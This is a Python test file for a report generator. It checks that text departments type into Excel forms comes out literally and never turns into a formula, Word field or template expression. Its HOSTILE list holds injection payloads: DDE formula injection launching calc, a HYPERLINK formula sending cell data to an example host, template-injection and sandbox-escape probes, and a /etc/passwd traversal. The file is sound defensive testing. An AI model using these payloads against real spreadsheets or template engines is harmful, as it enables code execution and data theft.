"""Whatever a department types is printed as it was typed: never a formula, a field or a template."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from docx import Document
from lxml import etree

from generators.messages import as_csv
from generators.messages.listing import FORMULA_STARTS
from generators.pipeline import Run
from generators.workspace import Workspace
from tests.small_workspace import TEXTS, edit, ran, small_workspace
from tests.workbooks import cell_of, edited, filled_form, header_row, sound_definition

TEMPLATE = (
    *TEXTS,
    "目标{{渡口数.目标表述}}，说明{{渔业总产值.说明}}。",
    "{{文字材料.渔业工作}}",
    "{{文字材料.渔业工作.首句}}{{文字材料.渔业工作.余文}}",
    '有{{渔港清单|列举("渔港名称")}}。',
    "{% for 港 in 渔港清单 %}",
    "{{loop.index}}. {{港.渔港名称}}（{{港.级别}}）",
    "{% endfor %}",
)
HOSTILE = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://a.example/"&A1,"点击")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-1+cmd|' /C calc'!A0",
    "\t=1+1",
    "＝1+1",
    "{{7*7}}",
    "{{渔业总产值}}",
    "{% for a in 渔港清单 %}{{a}}{% endfor %}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{# 注 #}",
    "<w:t>&lt;&amp;]]><!--",
    "\" ' \\ %s {0} ${a}",
    "a\x0b\x07b_x0041_\ufffe\ufdd0",
    "../../../etc/passwd",
    "http://a.example/b",
    "港\u202eфыв\u202c𠮷😀",
    "长" * 32_767,
)
IN_TEXTS = (HOSTILE[0], HOSTILE[3], *HOSTILE[5:8], HOSTILE[9], HOSTILE[12], HOSTILE[14], HOSTILE[-1])
IN_NUMBERS = (HOSTILE[0], HOSTILE[1], HOSTILE[4], HOSTILE[7], HOSTILE[-1])
WORDS = re.compile(r"cmd|calc|HYPERLINK\(\"http|SUM\(1|7\*7|passwd|a\.example")
"""What no formula and no field of an output may hold."""
UNSTORED = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]")
"""What XML cannot hold: Excel writes it as ``_x0007_``."""
LIVE = ("{*}f", "{*}formula1", "{*}formula2", "{*}formula", "{*}definedName")
EVERY_FIELD = ("本年预计", "上年实际", "同比增长(%)", "下年目标", "情况说明")


def typed(cell: Any, text: str) -> None:
    """Type a text that stays one, as after an apostrophe."""
    cell.value = re.sub(
        "[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]", lambda m: f"_x{ord(m[0]):04X}_", text
    )
    cell.data_type = "s"


def words_typed(book: Any, text: str) -> None:
    """Type ``text`` wherever words are expected."""
    typed(cell_of(book, "S2-01", "下年目标"), text)
    typed(cell_of(book, "S1-01", "情况说明"), text)
    typed(cell_of(book, "N1", "正文", "文字材料"), text)
    sheet = book["渔港清单"]
    row, columns = header_row(sheet, "渔港名称")
    typed(sheet.cell(row + 1, columns["渔港名称"]), text)


def everything_typed(book: Any, text: str) -> None:
    """Type ``text`` into every cell that may be filled, and beside the form."""
    words_typed(book, text)
    for code in ("S1-01", "S1-02", "S2-01"):
        for header in EVERY_FIELD:
            typed(cell_of(book, code, header), text)
    sheet = book["渔港清单"]
    row, columns = header_row(sheet, "渔港名称")
    for column in columns.values():
        typed(sheet.cell(row + 1, column), text)
    typed(book["指标"].cell(30, 4), text)


def workspace_with(folder: Path, form: bytes, name: str = "渔业局-2031.xlsx") -> Workspace:
    place = small_workspace(folder, TEMPLATE)
    (place.inbox / "渔业局-2031.xlsx").unlink()
    (place.inbox / name).write_bytes(form)
    return place


def workbooks_of(place: Workspace) -> Iterator[Path]:
    yield from sorted(place.reports.rglob("*.xlsx"))
    yield from sorted(place.returned.rglob("*.xlsx"))


def bare(text: str) -> str:
    """The signs of a text that can be seen, so that texts can be compared."""
    return "".join(mark for mark in text if mark.isprintable() and not mark.isspace())


def shown(path: Path) -> str:
    """All that a workbook's cells show."""
    book = openpyxl.load_workbook(path)
    return "\n".join(
        bare(str(cell.value))
        for sheet in book
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None
    )


def check_workbooks(place: Workspace) -> int:
    """Fail where a workbook holds a formula of submitted text; returns how many were looked at."""
    looked = 0
    for path in workbooks_of(place):
        looked += 1
        with zipfile.ZipFile(path) as archive:
            for name in archive.namelist():
                assert not re.search("externalLink|vbaProject|embeddings|activeX", name), (path, name)
                if not name.endswith((".xml", ".rels", ".vml")):
                    continue
                root = etree.fromstring(archive.read(name))
                for item in root.iter(
                    "{*}f", "{*}formula1", "{*}formula2", "{*}formula", "{*}definedName"
                ):
                    assert not WORDS.search(item.text or ""), (path, name, item.text)
        for sheet in openpyxl.load_workbook(path):
            for row in sheet.iter_rows():
                for cell in row:
                    if isinstance(cell.value, str) and WORDS.search(cell.value):
                        assert cell.data_type == "s", (path, cell.coordinate)
    return looked


def check_report(report: Path) -> str:
    """Fail where the report holds a field of submitted text; returns what it says."""
    with zipfile.ZipFile(report) as archive:
        for name in archive.namelist():
            if name.endswith((".xml", ".rels")):
                root = etree.fromstring(archive.read(name))
                for item in root.iter("{*}instrText", "{*}fldSimple", "{*}Relationship"):
                    told = (item.text or "") + "".join(map(str, item.attrib.values()))
                    assert not WORDS.search(told), (name, told)
    return bare("".join(paragraph for paragraph in _paragraphs(report)))


def _paragraphs(report: Path) -> Iterator[str]:
    for paragraph in Document(str(report)).element.body.iter("{*}p"):
        yield "".join(item.text or "" for item in paragraph.iter("{*}t"))


def check_csv(done: Run) -> None:
    table = as_csv(done.findings).decode("utf-8-sig")
    for row in csv.reader(io.StringIO(table)):
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), cell
            assert not cell.lstrip().startswith(FORMULA_STARTS), cell


@pytest.mark.parametrize("text", IN_TEXTS, ids=lambda text: repr(text[:24]))
def test_words_are_printed_as_they_were_typed(text: str, tmp_path: Path) -> None:
    form = edited(filled_form(sound_definition()), lambda book: words_typed(book, text))
    place = workspace_with(tmp_path, form)
    done = ran(place)
    assert done.accepted == ("渔业局", "交通局")
    assert done.report is not None and done.summary is not None
    said = bare(text.replace("_x0041_", "A"))
    printed = check_report(done.report)
    # The reason, the narrative twice, the list and the loop.
    assert printed.count(said) == 5
    assert check_workbooks(place) == 3
    assert said in shown(done.summary)
    check_csv(done)


def test_a_register_of_hostile_words_is_printed_row_by_row(tmp_path: Path) -> None:
    def enter(book: Any) -> None:
        sheet = book["渔港清单"]
        row, columns = header_row(sheet, "渔港名称")
        for number, text in enumerate(HOSTILE, row + 1):
            typed(sheet.cell(number, columns["渔港名称"]), text)
            sheet.cell(number, columns["级别"]).value = "一级"

    place = workspace_with(tmp_path, edited(filled_form(sound_definition()), enter))
    done = ran(place)
    assert done.accepted == ("渔业局", "交通局")
    assert done.report is not None and done.summary is not None
    printed, summary = check_report(done.report), shown(done.summary)
    for text in HOSTILE:
        said = bare(text.replace("_x0041_", "A"))
        assert printed.count(said) >= 2
        assert said in summary
    assert check_workbooks(place) == 3
    check_csv(done)


@pytest.mark.parametrize("text", IN_NUMBERS, ids=lambda text: repr(text[:24]))
def test_words_where_numbers_are_expected_come_back_as_words(text: str, tmp_path: Path) -> None:
    form = edited(filled_form(sound_definition()), lambda book: everything_typed(book, text))
    place = workspace_with(tmp_path, form, "=1+1@渔业局.xlsx")
    done = ran(place)
    assert done.rejected == ("=1+1@渔业局.xlsx",)
    assert check_workbooks(place) == 3
    [copy] = (place.returned / "渔业局").iterdir()
    assert shown(copy).count(bare(text.replace("_x0041_", "A"))) >= 10
    check_csv(done)


def test_words_survive_a_report_that_is_edited_by_hand(tmp_path: Path) -> None:
    text = "{{7*7}}{{渔业总产值}}{% if a %}=1+1"
    form = edited(filled_form(sound_definition()), lambda book: words_typed(book, text))
    place = workspace_with(tmp_path, form)
    first = ran(place)
    assert first.report is not None
    edit(first.report, lambda document: document.add_paragraph("手工加的一段"))
    changed = edited(form, lambda book: typed(cell_of(book, "N1", "正文", "文字材料"), f"{text}改"))
    (place.inbox / "渔业局-2031.xlsx").write_bytes(changed)
    second = ran(place)
    assert second.report is not None
    printed = check_report(second.report)
    assert "手工加的一段" in printed
    assert printed.count(bare(text)) == 5
    assert printed.count(f"{bare(text)}改") == 2
    assert "49" not in printed


def test_a_formula_that_was_submitted_is_no_formula_of_the_program(tmp_path: Path) -> None:
    def enter(book: Any) -> None:
        cell_of(book, "S1-01", "情况说明").value = '=HYPERLINK("http://a.example/","x")'

    place = workspace_with(tmp_path, edited(filled_form(sound_definition()), enter))
    done = ran(place)
    assert done.summary is not None
    for path in (done.summary, *(place.returned / "交通局").iterdir()):
        with zipfile.ZipFile(path) as archive:
            for name in archive.namelist():
                assert b"a.example" not in archive.read(name), (path, name)
